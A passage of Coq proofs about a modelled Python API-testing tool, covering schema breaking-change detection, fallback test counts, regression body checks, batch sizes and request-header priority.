                  ("tags", JObj [("type", JStr "array")])])])
  = [].
Proof.
  apply (sample_passes_its_schema (H := plain_builtins)
           [("type", JStr "object"); ("required", JArr [JStr "id"; JStr "owner"]);
            ("properties",
             JObj [("id", JObj [("type", JStr "integer")]);
                   ("price", JObj [("type", JStr "number")]);
                   ("owner", JObj [("type", JStr "object");
                                   ("properties", JObj [("name", JObj [])])]);
                   ("tags", JObj [("type", JStr "array")])])]
           [("id", JObj [("type", JStr "integer")]);
            ("price", JObj [("type", JStr "number")]);
            ("owner", JObj [("type", JStr "object");
                            ("properties", JObj [("name", JObj [])])]);
            ("tags", JObj [("type", JStr "array")])]
           [JStr "id"; JStr "owner"]);
    try reflexivity.
  - intros f d [[= <- <-] | [[= <- <-] | [[= <- <-] | [[= <- <-] | []]]]];
      reflexivity.
  - intros r [<- | [<- | []]]; eexists; split; reflexivity.
Defined.

(** ** Breaking changes between two schemas *)

Section SchemaFacts.
Context `{Builtins}.

Lemma removed_fields_none (old_props new_props : dict) :
  removed_fields old_props new_props = []
  <-> forall f fs, In (f, fs) old_props -> dict_has f new_props = true.
Proof.
  unfold removed_fields. induction old_props as [| [k v] old_props IH];
    cbn [flat_map fst].
  - split; [intros _ f fs [] | reflexivity].
  - destruct (dict_has k new_props) eqn:E; cbn [negb app].
    + rewrite IH. split.
      * intros Hall f fs [[= <- <-] | Hin]; [exact E | now apply (Hall f fs)].
      * intros Hall f fs Hin. apply (Hall f fs). now right.
    + split; [discriminate |]. intros Hall.
      specialize (Hall k v (or_introl eq_refl)). congruence.
Qed.

Lemma changed_types_none (items new_props : dict) :
  changed_types items new_props = Ok []
  <-> forall f fs fs', In (f, fs) items -> dict_get f new_props = Some fs' ->
        exists t t', py_get fs "type" JNull = Ok t
                     /\ py_get fs' "type" JNull = Ok t'
                     /\ py_eq t t' = true.
Proof.
  induction items as [| [k v] items IH]; cbn [changed_types].
  - split; [intros _ f fs fs' [] | reflexivity].
  - destruct (dict_get k new_props) as [v' |] eqn:Ek.
    + destruct (py_get v "type" JNull) as [t | e] eqn:Et; cbn [bind].
      * destruct (py_get v' "type" JNull) as [t' | e] eqn:Et'; cbn [bind].
        -- destruct (changed_types items new_props) as [more | e]; cbn [bind].
           ++ destruct (py_eq t t') eqn:Eq; cbn [negb app].
              ** split.
                 --- intros [= ->] f fs fs' [[= <- <-] | Hin] Hf.
                     +++ rewrite Ek in Hf. injection Hf as <-.
                         exists t, t'. now repeat split.
                     +++ exact (proj1 IH eq_refl f fs fs' Hin Hf).
                 --- intros Hall. f_equal.
                     assert (E : Ok more = Ok (A := list BreakingChange) [])
                       by (apply IH; intros f fs fs' Hin; apply Hall; now right).
                     now injection E.
              ** split; [discriminate |]. intros Hall.
                 destruct (Hall k v v' (or_introl eq_refl) Ek) as (t0 & t0' & E0 & E0' & Hq).
                 congruence.
           ++ split; [discriminate |]. intros Hall.
              assert (E : Raise (A := list BreakingChange) e = Ok [])
                by (apply IH; intros f fs fs' Hin; apply Hall; now right).
              discriminate.
        -- split; [discriminate |]. intros Hall.
           destruct (Hall k v v' (or_introl eq_refl) Ek) as (t0 & t0' & E0 & E0' & Hq).
           congruence.
      * split; [discriminate |]. intros Hall.
        destruct (Hall k v v' (or_introl eq_refl) Ek) as (t0 & t0' & E0 & E0' & Hq).
        congruence.
    + rewrite IH. split.
      * intros Hall f fs fs' [[= <- <-] | Hin] Hf; [congruence |].
        exact (Hall f fs fs' Hin Hf).
      * intros Hall f fs fs' Hin. apply Hall. now right.
Qed.

Lemma newly_required_none (old_required new_required : list json) :
  newly_required old_required new_required = []
  <-> forall r, In r new_required -> existsb (py_eq r) old_required = true.
Proof.
  unfold newly_required. induction new_required as [| r0 new_required IH];
    cbn [flat_map].
  - split; [intros _ r [] | reflexivity].
  - destruct (existsb (py_eq r0) old_required) eqn:E; cbn [negb app].
    + rewrite IH. split.
      * intros Hall r [<- | Hin]; [exact E | now apply Hall].
      * intros Hall r Hin. apply Hall. now right.
    + split; [discriminate |]. intros Hall.
      specialize (Hall r0 (or_introl eq_refl)). congruence.
Qed.

(** X12.  When [compare_schemas] reports nothing.  For two schemas whose
    properties are dictionaries and whose required fields are lists, the
    list of breaking changes is empty exactly when every property of the old
    schema is still a property of the new one with an equal [type], and
    every field the new schema requires was already required by the old
    one; new optional properties and dropped requirements are not
    reported. *)
Theorem no_breaking_change_iff :
  forall (old_schema new_schema old_props new_props : dict)
         (old_required new_required : list json),
    get_or old_schema "properties" (JObj []) = JObj old_props ->
    get_or new_schema "properties" (JObj []) = JObj new_props ->
    get_or old_schema "required" (JArr []) = JArr old_required ->
    get_or new_schema "required" (JArr []) = JArr new_required ->
    (compare_schemas old_schema new_schema = Some (Ok [])
     <-> (forall f fs, In (f, fs) old_props ->
            exists fs' t t',
              dict_get f new_props = Some fs'
              /\ py_get fs "type" JNull = Ok t
              /\ py_get fs' "type" JNull = Ok t'
              /\ py_eq t t' = true)
         /\ (forall r, In r new_required -> existsb (py_eq r) old_required = true)).
Proof.
  intros old_schema new_schema old_props new_props old_required new_required
         E1 E2 E3 E4.
  unfold compare_schemas. rewrite E1, E2, E3, E4.
  pose proof (removed_fields_none old_props new_props) as Hrem.
  pose proof (changed_types_none old_props new_props) as Hch.
  pose proof (newly_required_none old_required new_required) as Hreq.
  destruct (changed_types old_props new_props) as [changes | e]; cbn [bind].
  - split.
    + intros [= E]. apply app_eq_nil in E as [Er E].
      apply app_eq_nil in E as [-> En].
      split; [| now apply Hreq].
      intros f fs Hin.
      pose proof (proj1 Hrem Er f fs Hin) as Hh. unfold dict_has in Hh.
      destruct (dict_get f new_props) as [fs' |] eqn:Ef; [| discriminate].
      destruct (proj1 Hch eq_refl f fs fs' Hin Ef) as (t & t' & Ht & Ht' & Hq).
      now exists fs', t, t'.
    + intros [Hprops Hr].
      assert (Er : removed_fields old_props new_props = []).
      { apply Hrem. intros f fs Hin.
        destruct (Hprops f fs Hin) as (fs' & t & t' & Ef & _).
        unfold dict_has. now rewrite Ef. }
      assert (Ec : Ok changes = Ok (A := list BreakingChange) []).
      { apply Hch. intros f fs fs' Hin Ef.
        destruct (Hprops f fs Hin) as (fs0 & t & t' & Ef0 & Ht & Ht' & Hq).
        rewrite Ef in Ef0. injection Ef0 as <-. now exists t, t'. }
      injection Ec as ->. rewrite Er, (proj2 Hreq Hr). reflexivity.
  - split; [discriminate |].
    intros [Hprops _].
    assert (Ec : Raise (A := list BreakingChange) e = Ok []).
    { apply Hch. intros f fs fs' Hin Ef.
      destruct (Hprops f fs Hin) as (fs0 & t & t' & Ef0 & Ht & Ht' & Hq).
      rewrite Ef in Ef0. injection Ef0 as <-. now exists t, t'. }
    discriminate.
Qed.
End SchemaFacts.

Lemma no_breaking_change_witness :
  compare_schemas (H := plain_builtins)
    [("type", JStr "object"); ("required", JArr [JStr "id"; JStr "name"]);
     ("properties", JObj [("id", JObj [("type", JStr "integer")]);
                          ("name", JObj [("type", JStr "string")])])]
    [("type", JStr "object"); ("required", JArr [JStr "id"]);
     ("properties", JObj [("name", JObj [("type", JStr "string")]);
                          ("id", JObj [("type", JStr "integer")]);
                          ("email", JObj [("type", JStr "string")])])]
  = Some (Ok [])
  <-> (forall f fs,
         In (f, fs) [("id", JObj [("type", JStr "integer")]);
                     ("name", JObj [("type", JStr "string")])] ->
         exists fs' t t',
           dict_get f [("name", JObj [("type", JStr "string")]);
                       ("id", JObj [("type", JStr "integer")]);
                       ("email", JObj [("type", JStr "string")])] = Some fs'
           /\ py_get fs "type" JNull = Ok t
           /\ py_get fs' "type" JNull = Ok t'
           /\ py_eq t t' = true)
      /\ (forall r, In r [JStr "id"] ->
                    existsb (py_eq r) [JStr "id"; JStr "name"] = true).
Proof.
  apply (no_breaking_change_iff (H := plain_builtins)
           [("type", JStr "object"); ("required", JArr [JStr "id"; JStr "name"]);
            ("properties", JObj [("id", JObj [("type", JStr "integer")]);
                                 ("name", JObj [("type", JStr "string")])])]
           [("type", JStr "object"); ("required", JArr [JStr "id"]);
            ("properties", JObj [("name", JObj [("type", JStr "string")]);
                                 ("id", JObj [("type", JStr "integer")]);
                                 ("email", JObj [("type", JStr "string")])])]);
    reflexivity.
Defined.

(** ** A count that is not positive *)

Lemma binary_round_aux_sign (s : bool) (m e : Z) (l : location) :
  match binary_round_aux 53 1024 s m e l with
  | S754_finite s' _ _ => s' = s
  | _ => True
  end.
Proof.
  unfold binary_round_aux.
  destruct (shr_fexp 53 1024 m e l) as [mrs1 e1].
  destruct (shr_fexp 53 1024 _ e1 loc_Exact) as [mrs2 e2].
  destruct (shr_m mrs2); [exact I | | exact I].
  destruct (e2 <=? 1024 - 53); [reflexivity | exact I].
Qed.

Lemma int_of_negative_float (m : positive) (e : Z) :
  exists k, py_int_of_float (S754_finite true m e) = Ok k /\ k <= 0.
Proof.
  unfold py_int_of_float. eexists. split; [reflexivity |].
  cbn [cond_Zopp]. apply Z.opp_nonpos_nonneg.
  destruct (0 <=? e).
  - apply Z.mul_nonneg_nonneg; [lia | apply Z.pow_nonneg; lia].
  - apply Z_div_nonneg_nonneg; [lia | apply Z.pow_nonneg; lia].
Qed.

(** A share of a count that is not positive comes to the minimum. *)
Lemma share_count_nonpositive (minimum n : Z) (m : positive) (e : Z) :
  - PY_SSIZE_T_MAX <= n <= 0 -> Z.pos m < 2 ^ 53 -> e <= 0 -> 0 <= minimum ->
  share_count minimum n (S754_finite false m e) = Ok minimum.
Proof.
  unfold PY_SSIZE_T_MAX. intros Hn Hm He Hmin.
  unfold share_count, py_mul_int_float, py_float_of_int.
  destruct n as [| p | p]; [| lia |].
  - cbn [float_of_Z binary_normalize SFmul bind py_int_of_float].
    f_equal. apply Z.max_l. exact Hmin.
  - assert (Ef : float_of_Z (Z.neg p) = binary_round 53 1024 true p 0) by reflexivity.
    rewrite Ef.
    assert (Hfin : finite_below 64 127 (binary_round 53 1024 true p 0)).
    { apply (binary_round_finite true p 63); [| lia].
      change (2 ^ 63) with 9223372036854775808. lia. }
    assert (Hsign : match binary_round 53 1024 true p 0 with
                    | S754_finite s' _ _ => s' = true
                    | _ => True
                    end).
    { unfold binary_round.
      destruct (shl_align p 0 _) as [mz ez].
      apply binary_round_aux_sign. }
    destruct (binary_round 53 1024 true p 0) as [s | s | | s mx ex] eqn:Ex;
      try (exfalso; exact Hfin).
    + cbn [SFmul bind py_int_of_float]. f_equal. apply Z.max_l. exact Hmin.
    + subst s. cbn [bind].
      pose proof (SFmul_finite (S754_finite true mx ex) false m e 64 127 Hfin Hm He
                    ltac:(lia) ltac:(lia) ltac:(lia)) as Hp.
      assert (Hs : match SFmul 53 1024 (S754_finite true mx ex) (S754_finite false m e) with
                   | S754_finite s' _ _ => s' = true
                   | _ => True
                   end).
      { unfold SFmul. cbn [xorb]. apply binary_round_aux_sign. }
      fold prec emax in Hp, Hs |- *.
      destruct (SFmul prec emax (S754_finite true mx ex) (S754_finite false m e))
        as [s | s | | s mp ep]; try (exfalso; exact Hp).
      * cbn [bind py_int_of_float]. f_equal. apply Z.max_l. exact Hmin.
      * subst s. destruct (int_of_negative_float mp ep) as (k & -> & Hk).
        cbn [bind]. f_equal. apply Z.max_l.
        now apply Z.le_trans with 0.
Qed.

Lemma fallback_counts_nonpositive (num : Z) :
  - PY_SSIZE_T_MAX <= num <= 0 ->
  fallback_counts num
  = Ok {| happy_path := num - 14; negative_test := 3; security_test := 5;
          edge_case := 3; fuzz_test := 3 |}.
Proof.
  intros Hn. unfold fallback_counts.
  rewrite lit_25_100, lit_20_100, lit_15_100.
  rewrite !share_count_nonpositive by (try exact Hn; try reflexivity; lia).
  cbn [bind].
  replace (3 + 3 + 5 + 3 + 3 <? num) with false by (symmetry; apply Z.ltb_ge; lia).
  replace (num <? 3 + 3 + 5 + 3 + 3) with true by (symmetry; apply Z.ltb_lt; lia).
  do 2 f_equal. lia.
Qed.

Lemma fallback_negative_length (api_url : string) (sample_data : dict) (num : Z)
      (has_auth : bool) (g : rng) :
  - PY_SSIZE_T_MAX <= num < 0 ->
  exists tests g',
    _generate_fallback_tests api_url sample_data num has_auth g = Ok (tests, g')
    /\ List.length tests = Z.to_nat (14 + num).
Proof.
  intros Hn.
  unfold _generate_fallback_tests.
  rewrite fallback_counts_nonpositive by lia. cbn [bind].
  pose proof (shuffle_length (security_templates has_auth) g) as Hs.
  destruct (shuffle (security_templates has_auth) g) as [shuffled g1].
  cbn [fst] in Hs.
  cbn [security_test happy_path negative_test edge_case fuzz_test].
  set (all_tests := security_tests shuffled 5 ++ _).
  assert (Hall : List.length all_tests = 14%nat).
  { unfold all_tests.
    rewrite !length_app, !cycled_tests_length, security_tests_length by lia.
    replace (Z.to_nat (num - 14)) with 0%nat by lia. reflexivity. }
  pose proof (shuffle_length all_tests g1) as Hm.
  destruct (shuffle all_tests g1) as [mixed g2]. cbn [fst] in Hm.
  exists (slice_to mixed num), g2. split; [reflexivity |].
  unfold slice_to.
  replace (0 <=? num) with false by (symmetry; apply Z.leb_gt; lia).
  rewrite length_firstn. unfold len. rewrite Hm, Hall. lia.
Qed.

Section NegativeCount.
Context `{Builtins}.

(** X13.  A count below zero is not refused.  For a negative count the
    template bank builds its fourteen minimum tests (five security tests and
    three each of negative, edge and fuzz tests) and the final slice
    [all_tests[:num]] drops the last [-num] of them: [14 + num] tests come
    back, none from -14 down; and without a client [generate_test_cases]
    returns them with the fallback flag set. *)
Theorem negative_count_gives_tests :
  forall (api_url : string) (sample_data : dict) (num : Z)
         (test_types : option (list string)) (has_auth : bool) (g : rng),
    - PY_SSIZE_T_MAX <= num < 0 ->
    exists tests g',
      _generate_fallback_tests api_url sample_data num has_auth g = Ok (tests, g')
      /\ generate_test_cases api_url sample_data num test_types has_auth None g
         = Ok (tests, true, g')
      /\ List.length tests = Z.to_nat (14 + num).
Proof.
  intros api_url sample_data num test_types has_auth g Hn.
  destruct (fallback_negative_length api_url sample_data num has_auth g Hn)
    as (tests & g' & E & Hlen).
  exists tests, g'. split; [exact E |]. split; [| exact Hlen].
  unfold generate_test_cases, fallback.
  replace (50 <? num) with false by (symmetry; apply Z.ltb_ge; lia).
  now rewrite E.
Qed.
End NegativeCount.

Lemma negative_count_gives_tests_witness :
  exists tests g',
    _generate_fallback_tests "http://localhost:8000/items" [] (-3) false [7; 2]%nat
    = Ok (tests, g')
    /\ generate_test_cases (H := plain_builtins) "http://localhost:8000/items" []
         (-3) None false None [7; 2]%nat = Ok (tests, true, g')
    /\ List.length tests = Z.to_nat (14 + -3).
Proof.
  apply (negative_count_gives_tests (H := plain_builtins)).
  unfold PY_SSIZE_T_MAX. lia.
Defined.

(** ** The body check of a regression test *)

Lemma exact_compare_sym_eq (x y : exact_number) :
  exact_compare x y = Some Eq -> exact_compare y x = Some Eq.
Proof.
  destruct x as [m1 e1 | | |], y as [m2 e2 | | |]; cbn; try discriminate;
    try reflexivity.
  intros [= E]. f_equal. rewrite (Z.min_comm e2 e1).
  apply Z.compare_eq_iff. symmetry. now apply Z.compare_eq_iff.
Qed.

Lemma number_eq_sym (a b : json) :
  match as_number a, as_number b with
  | Some x, Some y => match exact_compare x y with Some Eq => true | _ => false end
  | _, _ => false
  end = true ->
  match as_number b, as_number a with
  | Some x, Some y => match exact_compare x y with Some Eq => true | _ => false end
  | _, _ => false
  end = true.
Proof.
  destruct (as_number a) as [x |], (as_number b) as [y |]; try discriminate.
  destruct (exact_compare x y) as [[| |] |] eqn:E; try discriminate.
  intros _. now rewrite (exact_compare_sym_eq x y E).
Qed.

(** [==] is symmetric. *)
Lemma py_eq_sym (a : json) :
  forall b, json_wf a = true -> json_wf b = true ->
            py_eq a b = true -> py_eq b a = true.
Proof.
  induction a as [ | b0 | n | x | s | xs IH | kvs IH ] using json_induction;
    intros b Hwa Hwb; destruct b as [ | b' | n' | x' | s' | ys | kvs' ];
    try discriminate; try (match goal with
         | |- py_eq ?a ?b = true -> _ => exact (number_eq_sym a b)
         end);
    try (intros _; reflexivity).
  - cbn [py_eq]. now rewrite String.eqb_sym.
  - cbn [py_eq json_wf] in *. revert ys Hwa Hwb.
    induction IH as [| v xs Hv _ IHxs]; intros [| y ys] Hwa Hwb;
      try discriminate; try reflexivity.
    cbn [forallb] in Hwa, Hwb.
    apply andb_prop in Hwa as [Hv1 Hxs], Hwb as [Hy Hys].
    intros E. apply andb_prop in E as [E1 E2].
    rewrite (Hv y Hv1 Hy E1). now apply IHxs.
  - cbn [py_eq json_wf] in *.
    apply andb_prop in Hwa as [Hka Hwa], Hwb as [Hkb Hwb].
    rewrite forallb_forall in Hwa, Hwb. rewrite Forall_forall in IH.
    intros E. apply andb_prop in E as [El E].
    rewrite forallb_forall in E.
    assert (Hent : forall kv, In kv kvs ->
               exists c, dict_get (fst kv) kvs' = Some c /\ py_eq (snd kv) c = true).
    { intros kv Hin. specialize (E kv Hin).
      destruct (dict_get (fst kv) kvs') as [c |]; [| discriminate].
      now exists c. }
    apply andb_true_intro. split.
    + apply Nat.eqb_eq. apply Nat.eqb_eq in El. now symmetry.
    + apply forallb_forall. intros [k' v'] Hin'. cbn [fst snd].
      assert (Hk : In k' (map fst kvs)).
      { apply Nat.eqb_eq in El.
        assert (Hincl : incl (map fst kvs) (map fst kvs')).
        { intros k Hk. apply in_map_iff in Hk as (kv & <- & Hin).
          destruct (Hent kv Hin) as (c & Ec & _).
          apply dict_get_In in Ec. apply in_map_iff. now exists (fst kv, c). }
        apply (NoDup_length_incl (l := map fst kvs) (l' := map fst kvs')
                 (nodup_keys_NoDup _ Hka));
          [rewrite !length_map; lia | exact Hincl |].
        apply in_map_iff. now exists (k', v'). }
      apply in_map_iff in Hk as ([k v] & Ek & Hin). cbn [fst] in Ek. subst k.
      rewrite (dict_get_entry kvs k' v Hka Hin).
      destruct (Hent (k', v) Hin) as (c & Ec & Hc). cbn [fst snd] in Ec, Hc.
      assert (c = v').
      { pose proof (dict_get_entry kvs' k' v' Hkb Hin') as Ev.
        congruence. }
      subst c.
      exact (IH (k', v) Hin v' (Hwa (k', v) Hin) (Hwb (k', v') Hin') Hc).
Qed.

(** X14.  The body check of a regression test.  The changes of the
    response body are recorded, and fail the test, exactly when the body is
    not equal to the baseline under [==]: an unequal body always has at
    least one difference to show, and a body that is equal is never
    reported, not even where the diff alone would see a change of type
    (1 against 1.0). *)
Theorem changed_body_is_reported :
  forall (baseline_body response_data : json),
    json_wf baseline_body = true -> json_wf response_data = true ->
    (body_check baseline_body response_data = None
     <-> py_eq response_data baseline_body = true).
Proof.
  intros baseline_body response_data Hb Hr. unfold body_check.
  destruct (py_eq response_data baseline_body) eqn:E; cbn [negb]; [easy |].
  split; [| discriminate].
  destruct (find_json_differences baseline_body response_data "") eqn:Ed;
    [| discriminate].
  intros _.
  pose proof (diff_sound baseline_body response_data "" Hb Hr Ed) as Heq.
  apply (py_eq_sym _ _ Hb Hr) in Heq. congruence.
Qed.

Lemma changed_body_is_reported_witness :
  body_check (JObj [("id", JInt 1); ("tags", JArr [JStr "a"])])
             (JObj [("tags", JArr [JStr "a"]); ("id", JFloat (float_of_Z 1))]) = None
  <-> py_eq (JObj [("tags", JArr [JStr "a"]); ("id", JFloat (float_of_Z 1))])
            (JObj [("id", JInt 1); ("tags", JArr [JStr "a"])]) = true.
Proof.
  apply (changed_body_is_reported
           (JObj [("id", JInt 1); ("tags", JArr [JStr "a"])])
           (JObj [("tags", JArr [JStr "a"]); ("id", JFloat (float_of_Z 1))]));
    reflexivity.
Defined.

(** ** The plan of the batches *)

Lemma batch_counts_forties (batches : nat) (remaining : Z) :
  40 * Z.of_nat batches < remaining <= 40 * (Z.of_nat batches + 1) ->
  batch_counts (S batches) remaining
  = repeat 40 batches ++ [remaining - 40 * Z.of_nat batches].
Proof.
  revert remaining. induction batches as [| b IH]; intros remaining Hr.
  - cbn [batch_counts repeat app]. unfold batch_size. f_equal. lia.
  - change (batch_counts (S (S b)) remaining)
      with (Z.min batch_size remaining
            :: batch_counts (S b) (remaining - Z.min batch_size remaining)).
    unfold batch_size. rewrite Z.min_l by lia.
    rewrite (IH (remaining - 40)) by lia.
    cbn [repeat app]. do 3 f_equal. lia.
Qed.

(** X15.  The plan of the batches.  For a count from 1 on,
    [_generate_test_cases_batched] asks for full batches of 40 tests
    followed by one last batch of the 1 to 40 tests that remain: the sizes
    add up to the count and no batch is empty. *)
Theorem batches_are_forty_then_the_rest :
  forall (num_tests : Z),
    1 <= num_tests ->
    tests_per_batch num_tests
    = repeat 40 (Z.to_nat ((num_tests - 1) / 40))
      ++ [num_tests - 40 * ((num_tests - 1) / 40)]
    /\ 1 <= num_tests - 40 * ((num_tests - 1) / 40) <= 40
    /\ sum_Z (tests_per_batch num_tests) = num_tests.
Proof.
  intros num_tests Hn.
  pose proof (Z.div_mod (num_tests - 1) 40 ltac:(lia)) as Hd.
  pose proof (Z.mod_pos_bound (num_tests - 1) 40 ltac:(lia)) as Hm.
  assert (Hq : 0 <= (num_tests - 1) / 40) by (apply Z.div_pos; lia).
  set (q := (num_tests - 1) / 40) in *.
  assert (Hb : total_batches num_tests = q + 1).
  { unfold total_batches, batch_size.
    replace (num_tests + 40 - 1) with ((num_tests - 1) + 1 * 40) by lia.
    rewrite Z.div_add by lia. reflexivity. }
  split; [| split; [lia |]].
  - unfold tests_per_batch. rewrite Hb.
    replace (Z.to_nat (q + 1)) with (S (Z.to_nat q)) by lia.
    rewrite batch_counts_forties by lia. do 2 f_equal. lia.
  - apply tests_per_batch_spec. exact Hn.
Qed.

Lemma batches_are_forty_then_the_rest_witness :
  tests_per_batch 100 = repeat 40 (Z.to_nat ((100 - 1) / 40)) ++ [100 - 40 * ((100 - 1) / 40)]
  /\ 1 <= 100 - 40 * ((100 - 1) / 40) <= 40
  /\ sum_Z (tests_per_batch 100) = 100.
Proof.
  apply (batches_are_forty_then_the_rest 100). lia.
Defined.

(** ** The headers of a request *)

Lemma str_eq_py (s : string) (t : json) :
  py_eq (JStr s) t = true -> t = JStr s.
Proof.
  destruct t; cbn; try discriminate.
  intros E. apply String.eqb_eq in E. now subst.
Qed.

Lemma headers_get_set_same (k v : json) (headers : Headers) :
  py_eq k k = true -> headers_get k (headers_set k v headers) = Some v.
Proof.
  intros Hk. induction headers as [| [k0 v0] headers IH]; cbn [headers_set headers_get].
  - now rewrite Hk.
  - destruct (py_eq k k0) eqn:E; cbn [headers_get]; rewrite E; [reflexivity | exact IH].
Qed.

Lemma headers_get_set_other (name : string) (k v : json) (headers : Headers) :
  string_keys headers = true -> py_eq (JStr name) k = false ->
  headers_get (JStr name) (headers_set k v headers) = headers_get (JStr name) headers.
Proof.
  intros Hs Hk. induction headers as [| [k0 v0] headers IH];
    cbn [headers_set headers_get].
  - now rewrite Hk.
  - cbn [string_keys forallb fst] in Hs. apply andb_prop in Hs as [Hk0 Hs].
    destruct k0 as [ | | | | s0 | | ]; try discriminate.
    destruct (py_eq k (JStr s0)) eqn:E; cbn [headers_get].
    + apply py_eq_str in E. subst k. now rewrite Hk.
    + destruct (py_eq (JStr name) (JStr s0)); [reflexivity | now apply IH].
Qed.

Lemma string_keys_set (s : string) (v : json) (headers : Headers) :
  string_keys headers = true -> string_keys (headers_set (JStr s) v headers) = true.
Proof.
  intros Hs. induction headers as [| [k0 v0] headers IH]; cbn [headers_set];
    [reflexivity |].
  cbn [string_keys forallb fst] in Hs |- *. apply andb_prop in Hs as [Hk0 Hs].
  destruct (py_eq (JStr s) k0); cbn [string_keys forallb fst]; rewrite Hk0;
    [exact Hs | now apply IH].
Qed.

Lemma string_keys_update (custom : dict) :
  forall headers, string_keys headers = true ->
                  string_keys (headers_update headers custom) = true.
Proof.
  unfold headers_update.
  induction custom as [| [k v] custom IH]; intros headers Hs; [exact Hs |].
  cbn [fold_left fst snd]. apply IH. now apply string_keys_set.
Qed.

Lemma headers_get_update (name : string) (custom : dict) :
  forall headers : Headers,
    nodup_keys (map fst custom) = true -> string_keys headers = true ->
    headers_get (JStr name) (headers_update headers custom)
    = match dict_get name custom with
      | Some v => Some v
      | None => headers_get (JStr name) headers
      end.
Proof.
  unfold headers_update.
  induction custom as [| [k0 v0] custom IH]; intros headers Hnd Hs; [reflexivity |].
  cbn [map fst nodup_keys] in Hnd. apply andb_prop in Hnd as [Hfresh Hnd].
  cbn [fold_left fst snd dict_get].
  rewrite (IH _ Hnd (string_keys_set k0 v0 headers Hs)).
  destruct (String.eqb_spec name k0) as [-> | Hne].
  - destruct (dict_get k0 custom) as [v |] eqn:E.
    + apply dict_get_In in E.
      assert (Hm : mem_string k0 (map fst custom) = true)
        by (apply mem_string_In, in_map_iff; now exists (k0, v)).
      rewrite Hm in Hfresh. discriminate.
    + apply headers_get_set_same. cbn [py_eq]. apply String.eqb_refl.
  - destruct (dict_get name custom); [reflexivity |].
    apply headers_get_set_other; [exact Hs |].
    cbn [py_eq]. now apply String.eqb_neq.
Qed.

Lemma headers_set_In (k v : json) (headers : Headers) :
  string_keys headers = true -> In (k, v) (headers_set k v headers).
Proof.
  intros Hs. induction headers as [| [k0 v0] headers IH]; cbn [headers_set];
    [now left |].
  cbn [string_keys forallb fst] in Hs. apply andb_prop in Hs as [Hk0 Hs].
  destruct k0 as [ | | | | s0 | | ]; try discriminate.
  destruct (py_eq k (JStr s0)) eqn:E.
  - apply py_eq_str in E. subst k. now left.
  - right. now apply IH.
Qed.

Section HeaderFacts.
Context `{Builtins}.

(** The headers before the authentication is looked at. *)
Lemma plain_headers (custom_headers : option dict) :
  nodup_keys (dict_keys (custom_of custom_headers)) = true ->
  string_keys match custom_headers with
              | Some (kv :: custom) =>
                  headers_update [(JStr "Content-Type", JStr "application/json")]
                    (kv :: custom)
              | _ => [(JStr "Content-Type", JStr "application/json")]
              end = true
  /\ forall name,
       headers_get (JStr name)
         match custom_headers with
         | Some (kv :: custom) =>
             headers_update [(JStr "Content-Type", JStr "application/json")]
               (kv :: custom)
         | _ => [(JStr "Content-Type", JStr "application/json")]
         end
       = plain_header custom_headers name.
Proof.
  intros Hnd. unfold plain_header.
  destruct custom_headers as [[| kv custom] |]; cbn [custom_of] in *.
  - split; [reflexivity |]. intros name. cbn [dict_get headers_get py_eq].
    reflexivity.
  - split; [now apply string_keys_update |]. intros name.
    rewrite headers_get_update by (exact Hnd || reflexivity).
    destruct (dict_get name (kv :: custom)); reflexivity.
  - split; [reflexivity |]. intros name. cbn [dict_get headers_get py_eq].
    reflexivity.
Qed.

(** X16.  The headers of a request, by priority, for custom headers whose
    keys are distinct, as those of a dictionary are.  [_get_headers] raises
    exactly when the API key is to go under a key name that cannot be
    hashed.  Otherwise the header of a name has the value the
    authentication gives it (the bearer token or the API key, when one is
    configured and not empty); failing that, the value of the custom
    headers; failing that, the default [Content-Type: application/json].  So
    the authentication overrides a custom header of the same name, a custom
    [Content-Type] overrides the default, and the API key is an entry of the
    headers under its key name, a string or not. *)
Theorem headers_by_priority :
  forall (self : APITester) (custom_headers : option dict),
    nodup_keys (dict_keys (custom_of custom_headers)) = true ->
    match _get_headers self custom_headers with
    | Ok headers =>
        (forall name,
            headers_get (JStr name) headers
            = match auth_header self with
              | Some (k, v) =>
                  if py_eq (JStr name) k then Some v
                  else plain_header custom_headers name
              | None => plain_header custom_headers name
              end)
        /\ (forall k v, auth_header self = Some (k, v) ->
                        hashable k = true /\ In (k, v) headers)
    | Raise e =>
        exists k v,
          auth_header self = Some (k, v) /\ hashable k = false
          /\ e = TypeError ("unhashable type: '" +++ type_name k +++ "'")
    end.
Proof.
  intros self custom_headers Hnd.
  destruct (plain_headers custom_headers Hnd) as [Hs Hplain].
  unfold _get_headers, auth_header. cbn zeta.
  set (base := match custom_headers with Some (_ :: _) => _ | _ => _ end) in *.
  destruct (py_eq (get_or (auth_config self) "type" (JStr "none")) (JStr "bearer")).
  - destruct (py_truthy (get_or (auth_config self) "token" (JStr ""))).
    + split.
      * intros name. cbn [py_eq].
        destruct (String.eqb_spec name "Authorization") as [-> | Hn].
        -- now apply headers_get_set_same.
        -- rewrite headers_get_set_other; [apply Hplain | exact Hs |].
           cbn [py_eq]. now apply String.eqb_neq.
      * intros k v [= <- <-]. split; [reflexivity |]. now apply headers_set_In.
    + split; [exact Hplain | discriminate].
  - destruct (py_eq (get_or (auth_config self) "type" (JStr "none")) (JStr "api_key")).
    + destruct (py_truthy (get_or (auth_config self) "api_key" (JStr ""))).
      * destruct (get_or (auth_config self) "key_name" (JStr "X-API-Key"))
          as [ | b | n | x | key | xs | kvs ] eqn:Ek;
          try (eexists _, _; split; [reflexivity |]; split; reflexivity);
          (split;
           [ intros name
           | intros k v [= <- <-]; split; [reflexivity |]; now apply headers_set_In ]).
        -- now rewrite headers_get_set_other.
        -- now rewrite headers_get_set_other.
        -- now rewrite headers_get_set_other.
        -- now rewrite headers_get_set_other.
        -- cbn [py_eq]. destruct (String.eqb_spec name key) as [-> | Hn].
           ++ apply headers_get_set_same. cbn [py_eq]. apply String.eqb_refl.
           ++ rewrite headers_get_set_other; [apply Hplain | exact Hs |].
              cbn [py_eq]. now apply String.eqb_neq.
      * split; [exact Hplain | discriminate].
    + split; [exact Hplain | discriminate].
Qed.
End HeaderFacts.

Lemma headers_by_priority_witness :
  headers_get (JStr "Authorization")
    [(JStr "Content-Type", JStr "text/plain");
     (JStr "Authorization", JStr "Bearer abc"); (JStr "X-Trace", JStr "1")]
  = Some (JStr "Bearer abc")
  /\ headers_get (JStr "Content-Type")
       [(JStr "Content-Type", JStr "text/plain");
        (JStr "Authorization", JStr "Bearer abc"); (JStr "X-Trace", JStr "1")]
     = Some (JStr "text/plain")
  /\ In (JInt 7, JStr "secret")
       [(JStr "Content-Type", JStr "application/json"); (JInt 7, JStr "secret")].
Proof.
  destruct (headers_by_priority (H := plain_builtins)
